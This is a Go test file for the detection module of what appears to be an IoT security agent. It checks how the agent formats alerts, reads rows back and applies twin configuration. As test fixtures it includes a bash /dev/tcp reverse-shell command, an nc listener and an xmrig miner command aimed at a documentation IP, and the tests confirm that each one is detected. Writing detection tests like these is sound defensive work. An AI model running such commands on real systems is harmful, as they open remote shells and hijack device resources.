package detect

import (
	"bytes"
	"context"
	"log/slog"
	"strings"
	"testing"

	"github.com/edgesec/edgesec/event"
	"github.com/edgesec/edgesec/twinconfig"
)

func TestFormatLineAndTable(t *testing.T) {
	h := newHarness(t, Options{})
	out := h.feed(proc("/usr/bin/bash", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "ContainerId", "4f1e2d3c4b5a6978", "ModuleName", "tempSensor"),
		snap(event.ListeningPorts, t0, listen("TCP", "0.0.0.0", "8888", "/usr/bin/nc")))
	if len(out) != 2 {
		t.Fatalf("%d events", len(out))
	}
	line := FormatLine(out[0])
	for _, want := range []string{"ALERT High IoT_ReverseShell \"Reverse shells\"", "/dev/tcp/198.51.100.7/4444", "module tempSensor", "remote 198.51.100.7", "user root"} {
		if !strings.Contains(line, want) {
			t.Errorf("alert line %q lacks %q", line, want)
		}
	}
	rec := FormatLine(out[1])
	if !strings.Contains(rec, "RECOMMENDATION Medium Active IoT_OpenPorts \"Open ports on device\": TCP 0.0.0.0:8888: /usr/bin/nc (pid 812") {
		t.Errorf("recommendation line %q", rec)
	}
	if FormatLine(proc("/bin/true", "true")) != "" {
		t.Error("FormatLine of a ProcessCreate")
	}
	// The messages as the file transport writes them, read back.
	var buf bytes.Buffer
	for _, ev := range append([]event.Event{proc("/bin/true", "true")}, out...) {
		env := event.Envelope{AgentVersion: "test", AgentID: "2f1ae4a0-6c1b-4f57-9a58-0d3f1c9e7b21", Events: []event.Event{ev}}
		buf.Write(env.AppendJSON(nil))
		buf.WriteByte('\n')
	}
	rows, err := ReadRows(&buf)
	if err != nil || len(rows) != 2 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	if rows[0].ID != RuleReverseShell || rows[0].Entity != "pid "+event.Itoa(out[0].Payload[0].(*event.SecurityAlertPayload).ProcessID)+" root tempSensor 198.51.100.7" {
		t.Errorf("row 0: %+v", rows[0])
	}
	var tb bytes.Buffer
	if err := WriteTable(&tb, rows, 40); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(tb.String()), "\n")
	if len(lines) != 3 || !strings.HasPrefix(lines[0], "TIME (UTC)") || !strings.Contains(lines[2], "recommendation  Medium    Active  IoT_OpenPorts") {
		t.Errorf("table:\n%s", tb.String())
	}
	if _, err := ReadRows(strings.NewReader("{not json")); err == nil {
		t.Error("bad JSON accepted")
	}
}

func TestPrintStageAndNewFromTwin(t *testing.T) {
	if _, probs, err := twinconfig.Decode([]byte(`{"detectionRuleSeverities": {"value": "IoT_CryptoMiner=nope"}}`)); err == nil && len(probs) == 0 {
		t.Fatal("twinconfig accepted a bad severity")
	}
	cfg, _, _ := twinconfig.Decode([]byte(`{"detectionRulesDisabled": {"value": "IoT_NoSuchRule"}}`))
	s, err := NewFromTwin(cfg, Options{Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	ps := PrintStage(&buf)
	var out []event.Event
	ev := proc("/tmp/xmrig", "/tmp/xmrig -o stratum+tcp://198.51.100.7:3333")
	_ = s.Process(context.Background(), &ev, func(x event.Event) { out = append(out, x) })
	names := []string{}
	for i := range out {
		names = append(names, out[i].Name)
		if err := ps.Process(context.Background(), &out[i], nil); err != nil {
			t.Fatal(err)
		}
	}
	if len(out) != 2 || out[0].Name != event.ConfigurationError || out[1].Name != event.SecurityAlert {
		t.Fatalf("events %v: want the ConfigurationError of the bad twin and the miner alert (rules running)", names)
	}
	if got := buf.String(); strings.Count(got, "\n") != 1 || !strings.Contains(got, "ALERT High IoT_CryptoMiner") {
		t.Errorf("printed %q", got)
	}
}
